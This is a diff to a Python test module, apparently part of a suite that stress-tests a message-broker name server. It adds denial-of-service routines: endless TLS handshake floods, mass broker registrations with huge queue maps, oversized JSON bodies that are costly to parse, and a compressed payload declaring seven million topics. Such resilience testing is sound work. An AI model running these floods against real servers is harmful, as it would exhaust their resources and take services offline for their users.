@@ -1,10 +1,13 @@
 """Attacks over so many connections that what each of them may have adds up."""
 
 import contextlib
+import json
 import resource
 import selectors
+import ssl
 import struct
 import threading
+import zlib
 from collections.abc import Callable
 from itertools import count
 
@@ -13,19 +16,25 @@ from tests.attacks.peers import Target, Wire, frame, opened, pipelined, registra
 __all__ = [
     "allow_connections",
     "ask_for_cluster_information",
+    "ask_for_mapped_topic",
     "ask_for_wide_topic",
     "ask_for_zones_of_wide_topic",
     "be_refused_everywhere",
+    "begin_handshakes",
     "leave_frames_half_sent",
+    "map_queues",
     "register_and_wait_everywhere",
+    "send_bodies_of_many_small_parts",
+    "send_bodies_of_many_topics",
     "start_with_wide_topic",
 ]
 
 HALF_FRAME_BYTES = 65_000
 """Below the size from which a frame needs a place in the budget."""
-WIDE_NAMES = 18_000
+MAPPED = "Mapped"
 READY_SECONDS = 60
 READ_BYTES = 1 << 18
+EMPTY_TEXTS = '"",' * 5_000_000
 
 
 def allow_connections() -> None:
@@ -62,23 +71,23 @@ def be_refused_everywhere(target: Target) -> None:
     _keep_sending(target, 1_000, frame(318, {}, body) * 8)
 
 
-def start_with_wide_topic(target: Target, stack: contextlib.ExitStack) -> None:
-    """Register 18,000 broker names with the same topic, and stay."""
+def start_with_wide_topic(names: int, target: Target, stack: contextlib.ExitStack) -> None:
+    """Register so many broker names with the same topic, and stay."""
     wire = stack.enter_context(Wire(target.port))
     rows = topics("Wide", 2)  # one alone is refused
     answered = threading.Semaphore(0)
 
     def read() -> None:
-        for _ in range(WIDE_NAMES):
+        for _ in range(names):
             header, _ = wire.answer()
             assert b'"code":0,' in header, header
             answered.release()
 
     threading.Thread(target=read, daemon=True).start()
-    for index in range(WIDE_NAMES):
+    for index in range(names):
         addr = f"10.7.{index >> 8}.{index & 255}:10911"
         wire.send(registration(f"wide-{index:05}", rows, cluster="Wide", addr=addr))
-    for _ in range(WIDE_NAMES):
+    for _ in range(names):
         assert answered.acquire(timeout=READY_SECONDS), "it was refused"
 
 
@@ -92,6 +101,67 @@ def ask_for_zones_of_wide_topic(target: Target) -> None:
     _look_up(target, lambda name: {"topic": "Wide000000", "__ZONE_MODE": "true", "__ZONE_NAME": name})
 
 
+def begin_handshakes(target: Target) -> None:
+    """Send a TLS client's first message over 3,000 connections at once, and nothing more, again and again."""
+    allow_connections()
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    outgoing = ssl.MemoryBIO()
+    with contextlib.suppress(ssl.SSLWantReadError):
+        context.wrap_bio(ssl.MemoryBIO(), outgoing).do_handshake()
+    client_hello = outgoing.read()
+    while True:
+        with opened(target.port, target.times(3_000)) as wires:
+            for wire in wires:
+                with contextlib.suppress(OSError):
+                    wire.send(client_hello)
+            threading.Event().wait(2.0)
+
+
+def map_queues(target: Target, stack: contextlib.ExitStack) -> None:
+    """Register a static topic with as many queues as it may have, on four broker names, and stay."""
+    wire = stack.enter_context(Wire(target.port))
+    for index in range(4):
+        name = f"mapper{index}"
+        ids = {str(number): number for number in range(50_000)}
+        mapping = {"bname": name, "topic": MAPPED, "totalQueues": len(ids), "currIdMap": ids}
+        table = {topic: {"topicName": topic, "perm": 6} for topic in (MAPPED, "Other")}
+        wrapper = {"topicConfigTable": table, "topicQueueMappingInfoMap": {MAPPED: mapping}}
+        body = json.dumps({"topicConfigSerializeWrapper": wrapper}).encode()
+        header, _ = wire.ask(registration(name, (), addr=f"10.8.0.{index}:10911", raw=body))
+        assert b'"code":0,' in header, header
+
+
+def send_bodies_of_many_small_parts(target: Target) -> None:
+    """Send bodies of 15 MB, whose reading costs the more for each byte the smaller their parts are."""
+    mappings = ",".join(f'"{number:x}":{{"bname":""}}' for number in range(700_000))
+    queues = ",".join(f'"{number}":0' for number in range(1_200_000))
+    wrapped = '{{"topicConfigSerializeWrapper":{{"topicQueueMappingInfoMap":{{{}}}}}}}'
+    bodies = (
+        f'{{"filterServerList":[{EMPTY_TEXTS}""]}}',
+        wrapped.format(mappings),
+        wrapped.format(f'"T":{{"bname":"","currIdMap":{{{queues}}}}}'),
+    )
+    for index in range(target.times(60)):
+        raw = bodies[index % len(bodies)].encode()
+        with contextlib.suppress(OSError):
+            pipelined(target.port, [registration(f"parts{index}", (), raw=raw)])
+
+
+def send_bodies_of_many_topics(target: Target) -> None:
+    """Send compressed bodies of seven million topics each, which are broken at the end."""
+    version = b"{}"
+    deflate = zlib.compressobj(1)
+    body = deflate.compress(struct.pack(">I", len(version)) + version + struct.pack(">I", 7_000_000))
+    for start in range(0, 7_000_000, 100_000):
+        rows = (b"%x 4 4 6 X" % number for number in range(start, start + 100_000))
+        body += deflate.compress(b"".join(struct.pack(">I", len(row)) + row for row in rows))
+    body += deflate.flush()
+    for index in range(target.times(10)):
+        with contextlib.suppress(OSError):
+            pipelined(target.port, [registration(f"topics{index}", (), compressed=True, raw=body)])
+
+
 def _look_up(target: Target, fields: Callable[[str], dict[str, str]]) -> None:
     def flood(part: int) -> None:
         with contextlib.suppress(OSError):
@@ -100,6 +170,11 @@ def _look_up(target: Target, fields: Callable[[str], dict[str, str]]) -> None:
     for part in range(target.times(100)):
         threading.Thread(target=flood, args=(part,), daemon=True).start()
     wait_for_the_end()
+
+
+def ask_for_mapped_topic(target: Target) -> None:
+    """Look up a static topic of many queues, narrowed to a zone, another one each time."""
+    _look_up(target, lambda name: {"topic": MAPPED, "__ZONE_MODE": "true", "__ZONE_NAME": name})
 
 
 def ask_for_cluster_information(target: Target) -> None:
